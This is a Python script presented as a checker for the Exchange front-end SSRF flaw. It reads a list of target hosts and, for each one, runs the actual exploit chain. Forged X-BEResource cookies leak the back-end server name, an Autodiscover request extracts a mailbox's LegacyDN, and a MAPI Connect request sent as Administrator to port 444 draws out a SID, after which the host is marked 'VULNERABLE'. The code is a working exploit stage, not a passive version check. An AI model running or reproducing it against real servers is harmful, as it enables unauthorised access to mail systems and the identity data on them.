# Independent checker for the Exchange front-end SSRF, written from the
# public write-ups: same endpoints and headers as any other exploit for
# this bug, but its own structure.
import requests
import sys
from urllib3.exceptions import InsecureRequestWarning

requests.packages.urllib3.disable_warnings(InsecureRequestWarning)

AUTODISCOVER_PATH = "/autodiscover/autodiscover.xml"
MAPI_PATH = "/mapi/emsmdb"
USER_AGENT = "Mozilla/5.0 (compatible; emb-check/1.0)"

targets = []
results = {}

if len(sys.argv) < 3:
    print("usage: check.py HOSTS_FILE MAILBOX")
    sys.exit(2)

with open(sys.argv[1]) as handle:
    for line in handle:
        line = line.strip()
        if line and not line.startswith("#"):
            targets.append(line)

mailbox = sys.argv[2]
session = requests.Session()
session.verify = False
session.headers["User-Agent"] = USER_AGENT

for host in targets:
    base = "https://" + host
    try:
        first = session.get(base + "/ecp/x.js", cookies={
            "X-AnonResource": "true",
            "X-AnonResource-Backend": "localhost/ecp/default.flt?~3",
            "X-BEResource": "localhost/owa/auth/logon.aspx?~3",
        }, timeout=10)
    except requests.RequestException as err:
        results[host] = "error: " + str(err)
        continue
    name = first.headers.get("X-FEServer")
    if not name:
        results[host] = "patched (no X-FEServer)"
        continue
    xml = ('<Autodiscover xmlns="http://schemas.microsoft.com/exchange/'
           'autodiscover/outlook/requestschema/2006"><Request>'
           '<EMailAddress>' + mailbox + '</EMailAddress>'
           '<AcceptableResponseSchema>http://schemas.microsoft.com/exchange/'
           'autodiscover/outlook/responseschema/2006a'
           '</AcceptableResponseSchema></Request></Autodiscover>')
    second = session.post(base + AUTODISCOVER_PATH, data=xml, cookies={
        "X-BEResource": name + AUTODISCOVER_PATH + "?a=~1942062522;",
    }, headers={"Content-Type": "text/xml"}, timeout=10)
    start = second.text.find("<LegacyDN>")
    end = second.text.find("</LegacyDN>")
    if second.status_code != 200 or start < 0 or end < 0:
        results[host] = "no legacy DN (%d)" % second.status_code
        continue
    dn = second.text[start + len("<LegacyDN>"):end]
    third = session.post(base + MAPI_PATH, data=dn + "\x00" * 5, cookies={
        "X-BEResource": "Administrator@" + name + ":444" + MAPI_PATH +
        "?MailboxId=x&a=~1942062522;",
    }, headers={
        "X-Requesttype": "Connect",
        "X-Clientapplication": "Outlook/15.0.4815.1002",
        "Content-Type": "application/mapi-http",
    }, timeout=10)
    if "with SID " in third.text:
        results[host] = "VULNERABLE " + dn
    else:
        results[host] = "no SID (%d)" % third.status_code

for host in sorted(results):
    print(host.ljust(40), results[host])
